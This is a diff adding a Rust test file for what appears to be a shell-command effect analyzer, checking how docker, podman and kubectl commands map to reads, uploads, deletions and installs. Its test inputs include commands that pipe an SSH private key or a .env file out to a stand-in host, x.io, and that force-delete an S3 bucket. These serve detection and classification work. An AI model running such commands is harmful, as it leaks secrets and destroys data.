@@ -1,0 +1,93 @@
+//! What the host pipes into a container reaches the command there; a CLI's
+//! own image runs that CLI; plugin managers install packages.
+
+mod common;
+use common::*;
+use serde_json::json;
+
+#[test]
+fn what_the_host_pipes_in_is_sent_from_the_container() {
+    run_table(&[
+        (
+            "cat ~/.ssh/id_ed25519 | docker run -i --rm curlimages/curl --data-binary @- https://x.io",
+            json!([
+                read("/home/dana/.ssh/id_ed25519"),
+                url_request(
+                    "curl",
+                    "https://x.io",
+                    "POST",
+                    payload(&[], &[("/home/dana/.ssh/id_ed25519", false)], &[])
+                )
+            ]),
+        ),
+        (
+            "kubectl -n tools exec -i shell-0 -- curl -sT - https://x.io < .env",
+            json!([
+                read(&at(".env")),
+                {"effect": "kubectl", "verb": "exec", "args": ["shell-0", "curl", "-sT", "-", "https://x.io"],
+                 "context": null, "namespace": "tools", "files": [], "dry_run": false, "all": false},
+                url_request(
+                    "curl",
+                    "https://x.io",
+                    "PUT",
+                    payload(&[], &[(&at(".env"), false)], &[])
+                )
+            ]),
+        ),
+        (
+            // Files of the container's own stay the container's.
+            "docker run --rm curlimages/curl -T /etc/hostname https://x.io",
+            json!([url_request("curl", "https://x.io", "PUT", empty())]),
+        ),
+    ]);
+}
+
+#[test]
+fn a_clis_own_image_runs_that_cli() {
+    run_table(&[
+        (
+            "docker run -v ~/.aws:/root/.aws:ro amazon/aws-cli s3 rb s3://team-cache --force",
+            json!([remote_delete("s3://team-cache", true)]),
+        ),
+        (
+            "podman run --rm public.ecr.aws/aws-cli/aws-cli:2.15 s3 rb s3://team-cache",
+            json!([remote_delete("s3://team-cache", true)]),
+        ),
+        (
+            // Named again, the program is not doubled.
+            "docker run --rm curlimages/curl:8.5.0 curl -X POST https://x.io",
+            json!([url_request("curl", "https://x.io", "POST", empty())]),
+        ),
+        // An image not known runs its first word.
+        (
+            "docker run --rm ghcr.io/acme/tool:1 s3 rb s3://team-cache",
+            json!([]),
+        ),
+    ]);
+}
+
+#[test]
+fn plugin_managers_install_packages() {
+    run_table(&[
+        (
+            "kubectl krew install ctx ns",
+            json!([install("krew", &["ctx", "ns"])]),
+        ),
+        (
+            "helm plugin install https://github.com/databus23/helm-diff --version 3.9.0",
+            json!([install_from(
+                "helm",
+                &["https://github.com/databus23/helm-diff"],
+                "https://github.com/databus23/helm-diff"
+            )]),
+        ),
+        (
+            "gh extension install dlvhdr/gh-dash",
+            json!([install("gh", &["dlvhdr/gh-dash"])]),
+        ),
+        (
+            "code --install-extension ms-python.python --force",
+            json!([install("code", &["ms-python.python"])]),
+        ),
+    ]);
+}
